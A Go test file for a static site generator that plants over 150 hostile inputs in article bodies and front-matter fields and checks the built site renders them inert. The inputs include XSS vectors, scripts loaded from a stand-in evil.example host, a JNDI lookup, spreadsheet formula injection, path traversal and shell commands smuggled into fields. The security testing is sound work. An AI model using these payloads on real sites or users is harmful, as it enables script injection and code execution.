package hostile

import (
	"fmt"
	"strings"
	"testing"

	"bangvang/internal/testkit/trial"
)

// freshBodies are attacks in the text of an article. Each is a whole text; § is its number.
var freshBodies = []string{
	// links, as browsers read addresses
	"[a](\\javascript:alert(§))", "[a](<java\tscript:alert(§)>)", "[a](&#x6A;avascript&#58;alert(§))", "[a](javascript&#00000058;alert(§))",
	"[a](JAVASCRIPT:alert(§) 'x')", "[a]( javascript:alert(§))", "[a](<\u00a0javascript:alert(§)>)", "[a](feed:javascript:alert(§))", "[a](view-source:javascript:alert(§))",
	"[a](data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](data:text/html;charset=utf-7,+ADw-script+AD4-alert(§))", "[a](x:javascript:alert(§))",
	"[a](https:javascript:alert(§))", "[a](//evil.example)", "[a](\\\\evil.example)", "[a](/\\evil.example)", "[a](/\t/evil.example)", "[a](https://example.org@evil.example/)",
	"[a](https://evil.example\\@example.org/)", "[a](mailto:a@b.c?attach=/etc/passwd)", "[a](tel:*#06#)", "[a](sms:1)", "[a](callto:1)", "[a](ms-word:ofe|u|https://evil.example/a.docx)",
	"[a](search-ms:query=x&crumb=location:\\\\evil)", "[a](steam://run/1)", "[a](chrome://settings)", "[a](%6aavascript:alert(§))", "[a](javascript%3Aalert(§))",
	"<https://evil.example/\"onmouseover=alert(§)>", "<a@b.c\"onclick=alert(§)>", "https://example.org/\"onclick=alert(§)//", "www.example.org/'onclick='alert(§)", "a@b.vn\"onfocus=alert(§)",
	"[a][b]\n\n[b]: <javascript:alert(§)> 'x'", "[a][b]\n\n[b]:\n javascript:alert(§)", "[*a*](javascript:alert(§) \"**b**\")", "![![a](javascript:alert(§))](x)", "[![a](anh.png)](javascript:alert(§))",
	"[a](<javascript:alert(§)\n>)", "[a](#\"><script>alert(§)</script>)", "[a](?\"><script>alert(§)</script>)", "[a](/x'onclick='alert(§))", "[a](anh.png\" onerror=\"alert(§))",
	// raw HTML that a lenient reader completes
	"<script src=//evil.example/§></script>", "<img src=x onerror=alert(§)>", "<img/src=x/onerror=alert(§)>", "<svg><script>alert(§)</script></svg>", "<svg/onload=alert(§)>", "<iframe srcdoc='<script>alert(§)</script>'>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(§)&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(§)>\">", "<template><img src=x onerror=alert(§)></template>",
	"<details open ontoggle=alert(§)>", "<video><source onerror=alert(§)>", "<body onload=alert(§)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/a.css>",
	"<style>@import '//evil.example/a.css'</style>", "<form action=//evil.example><button>a", "<button formaction=javascript:alert(§)>", "<object data=javascript:alert(§)>", "<embed src=//evil.example/a.swf>", "<marquee onstart=alert(§)>",
	"<img src=`x`onerror=alert(§)>", "<img src=\"x\u0000\" onerror=alert(§)>", "<<script>alert(§)//<</script>", "<scr<script>ipt>alert(§)</script>", "<!--><img src=x onerror=alert(§)>-->", "<![CDATA[<script>alert(§)</script>]]>", "<?xml version='1.0'?><script>alert(§)</script>",
	"<div style='background:url(//evil.example/§)'>", "<input autofocus onfocus=alert(§)>", "<select><noembed></select><script x='a@b'a>y='a@b'//a@b</script>", "<xmp><img src=x onerror=alert(§)></xmp>", "<textarea><script>alert(§)</script>", "</p></article></main><script>alert(§)</script>",
	"<a href=\"jav&#x09;ascript:alert(§)\">a", "<isindex type=image src=1 onerror=alert(§)>", "<portal src=//evil.example>", "<dialog open><form method=dialog><button formaction='javascript:alert(§)'>",
	// marks of Markdown that build attributes
	"# a {onclick=alert(§)}", "# a {#\"onclick=alert(§)}", "# \"><script>alert(§)</script>", "```\"><script>alert(§)</script>\na\n```", "~~~html onload=alert(§)\n<script>alert(§)</script>\n~~~", "```js {onclick=alert(§)}\na\n```",
	"a[^\"><script>alert(§)</script>]\n\n[^\"><script>alert(§)</script>]: b", "a[^1]\n\n[^1]: [x](javascript:alert(§))", "a[^1]\n\n[^1]: <img src=x onerror=alert(§)>", "| a |\n|:-\"onclick=alert(§)-:|\n| b |", "- [x] <img src=x onerror=alert(§)>",
	"![a](anh.png \"b\" onerror=alert(§))", "![a\" onerror=\"alert(§)](anh.png)", "![a](anh.png '\" onerror=\"alert(§)')", "![a](anh.png =100x100\"onerror=alert(§))", "![&quot; onerror=alert(§)](anh.png)", "![a](https://evil.example/§.png)", "![a](//evil.example/§.png)", "![a](\\\\evil.example/§.png)", "![a](data:image/svg+xml,<svg onload=alert(§)>)",
	"`<script>alert(§)</script>`", "``` ` <script>alert(§)</script> ` ```", "&lt;script&gt;alert(§)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(§)&amp;gt;", "\\<img src=x onerror=alert(§)\\>", "**<img src=x onerror=alert(§)>**", "> <script>alert(§)</script>", "1. <script>\n   alert(§)\n   </script>",
	"{{ alert(§) }} {% raw %} <%= alert(§) %> ${alert(§)} #{alert(§)}", "{{template \"x\"}}{{.}}{{define \"x\"}}", "[[javascript:alert(§)]]", ":::script\nalert(§)\n:::", "$$\\href{javascript:alert(§)}{a}$$", "\\x3cscript\\x3ealert(§)\\x3c/script\\x3e", "＜script＞alert(§)＜/script＞", "+ADw-script+AD4-alert(§)+ADw-/script+AD4-",
}

// freshFields are attacks in a text of the front matter, where the feeds, the JSON-LD, the CSV and the calendar take it from.
var freshFields = []string{
	"</script><img src=x onerror=alert(§)>", "<!--<script>", "\\u003c/script\\u003e<script>alert(§)</script>", "]]><script>alert(§)</script><![CDATA[", "&lt;/title&gt;<script>alert(§)</script>", "&#60;script&#62;alert(§)&#60;/script&#62;",
	"@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝HYPERLINK(1)", "\u200b=1+1", " \u00a0=1+1", "'=1+1", "\\\"=1+1", "%0d%0aSet-Cookie: a=b", "BEGIN:VCALENDAR", "a;ATTACH:https://evil.example/", "a\u2028alert(§)\u2029", "${jndi:ldap://evil.example/§}",
	"{{constructor.constructor('alert(§)')()}}", "<%- alert(§) %>", "\\\" onload=\\\"alert(§)", "' autofocus onfocus='alert(§)", "*/alert(§)/*", "</style><script>alert(§)</script>", "</textarea><script>alert(§)</script>", "</noscript><img src=x onerror=alert(§)>", "javascript:alert(§)//", "data:text/html,<script>alert(§)</script>", "__proto__", "constructor", "toString",
	"/x https://evil.example 301!", "* /admin 200", "# alert", "../../../x", "..%2f..%2fx", "con", "CON.txt", "$(touch /tmp/x)", "`touch /tmp/x`", "; touch /tmp/x", "%s%n%x", "a\\\\", "<b>Lan", "a & b; c < d > e",
}

// TestFreshAttacks builds a site of all of them, and checks every file of it.
func TestFreshAttacks(t *testing.T) {
	files, n := freshFiles()
	if n < 150 {
		t.Fatalf("only %d attacks", n)
	}
	s := trial.Load(t, trial.Options(siteOf("index_individuals: true\nshare: [facebook, email, card]\n", files)))
	built := rendered(t, s)
	checkInert(t, built)
	t.Logf("%d attacks, %d files", n, len(built))
}

// freshFiles returns the files of the site of all fresh attacks, and their number.
func freshFiles() (files map[string]string, n int) {
	files = map[string]string{"content/moi/anh.png": pixel}
	for _, body := range freshBodies {
		files[fmt.Sprintf("content/moi/%d.md", n)] = strings.ReplaceAll(top, "Hội nghị", fmt.Sprint("Hội nghị ", n)) + "---\n\n" + strings.ReplaceAll(body, "§", fmt.Sprint(n)) + "\n"
		n++
	}
	for _, field := range freshFields {
		q := `"` + strings.ReplaceAll(field, "§", fmt.Sprint(n)) + `"`
		files[fmt.Sprintf("content/moi/%d.md", n)] = strings.ReplaceAll("---\ntitle: %\ndate: 2024-01-19\nsummary: %\nauthor: %\ncategory: %\ntags: [%]\nsource: %\nevent: {kind: %, at: %}\n"+
			"awards: [{award: %, by: %, for: %, decision: {no: %}, to: {cá nhân: [{name: %, post: %, unit: %}], tập thể: [%]}}]\n---\n\n![Lan](anh.png)\n", "%", q)
		n++
	}
	return files, n
}
